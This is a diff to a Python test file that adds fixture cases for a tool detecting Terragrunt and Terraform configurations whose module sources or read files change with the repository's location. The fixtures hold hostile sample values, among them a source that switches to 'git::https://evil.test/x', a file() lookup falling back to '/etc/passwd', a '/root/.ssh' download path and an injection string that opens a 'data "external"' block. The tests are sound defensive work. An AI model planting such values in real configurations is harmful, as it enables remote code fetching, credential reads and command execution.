@@ -15,6 +15,8 @@ from trunkline.core.infra.reading import Files
 from trunkline.core.snapshot import FilesSnapshot
 
 DEEP = "/".join("abcdefgh")
+# Where a unit seems to lie, to whom looks at its code without knowing the machine.
+PLACE = "/@repository" + "/d" * 60
 
 # What a change adds to a repository without any of it; the file, its text, what is told of it.
 BROUGHT: dict[str, tuple[str, str, str]] = {
@@ -133,6 +135,26 @@ BROUGHT: dict[str, tuple[str, str, str]] = {
         'unit "x" {\n  source = "../x"\n  path = "../../../../root/x"\n}',
         "unit x made elsewhere",
     ),
+    "a source that is chosen by where the unit lies": (
+        "a/x.hcl",
+        'terraform {\n  source = get_repo_root() == "/x" ? "git::https://evil.test/x" : "../m"\n}',
+        "terraform from elsewhere",
+    ),
+    "one that is looked up by it": (
+        "a/x.hcl",
+        f'terraform {{ source = lookup({{"{PLACE}" = "../m"}}, get_terragrunt_dir(), "evil") }}',
+        "terraform from elsewhere",
+    ),
+    "one that is tried first": (
+        "a/x.hcl",
+        "terraform { source = try(local.evil, get_repo_root()) }",
+        "terraform from elsewhere",
+    ),
+    "a file that is chosen by where the module lies": (
+        "a/x.tf",
+        'output "x" { value = file(lookup({"/@repository" = "x"}, path.module, "/etc/passwd")) }',
+        "file of a file elsewhere",
+    ),
     "generated code, as a value": ("a/x.hcl", 'generate = { x = { path = "x.tf" } }', "generate"),
     "where it is downloaded to": ("a/x.hcl", 'download_dir = "/root/.ssh"', "download_dir"),
     "Terragrunt as JSON": ("a/terragrunt.hcl.json", "{}", "it is code that is not read here"),
@@ -186,6 +208,7 @@ provider "aws" {
 EOT
 }
 """
+EVIL = r'"\"\n}\ndata \"external\" \"x\" {"'
 ROOT = GENERATE.replace("WHAT", 'region = "${local.region}"')
 REGION = """\
 locals {
@@ -214,6 +237,26 @@ STEERED: dict[str, tuple[Mapping[str, str], str]] = {
         },
         "generate x",
     ),
+    **{
+        f"a word that is only one {name}": (
+            {
+                "root.hcl": f"locals {{\n  evil = {EVIL}\n  region = {value}\n}}\n{ROOT}",
+                "a/terragrunt.hcl": UNIT,
+                "m/x.tf": "",
+                "x.hcl.json": "{}",
+            },
+            "generate x",
+        )
+        for name, value in {
+            "here, by the place": 'get_repo_root() == "/@repository" ? "eu" : local.evil',
+            "here, by what is looked up": 'lookup({"/@repository" = "eu"}, get_repo_root(), "a b")',
+            "here, by what is taken": '{"/@repository" = "eu"}[get_repo_root()]',
+            "as long as the first is not known": 'try(title(local.evil), "eu")',
+            "in a file that is not read here": (
+                'read_terragrunt_config("${get_repo_root()}/x.hcl.json", {x = "eu"}).x'
+            ),
+        }.items()
+    },
     "a word that chooses a kind": (
         {
             "root.hcl": REGION + GENERATE.replace("WHAT", 'data "${local.region}" "x" {}'),
@@ -276,6 +319,12 @@ FREE: dict[str, Mapping[str, str]] = {
     "a value in generated code that is a word": {
         "root.hcl": REGION + ROOT,
         "a/region.hcl": 'locals { name = "eu-west-1" }',
+        "a/terragrunt.hcl": UNIT,
+        "m/x.tf": "",
+    },
+    "one that a condition of known values gives": {
+        "root.hcl": 'locals {\n  region = path_relative_to_include() == "a" ? "eu" : "us"\n}\n'
+        + ROOT,
         "a/terragrunt.hcl": UNIT,
         "m/x.tf": "",
     },
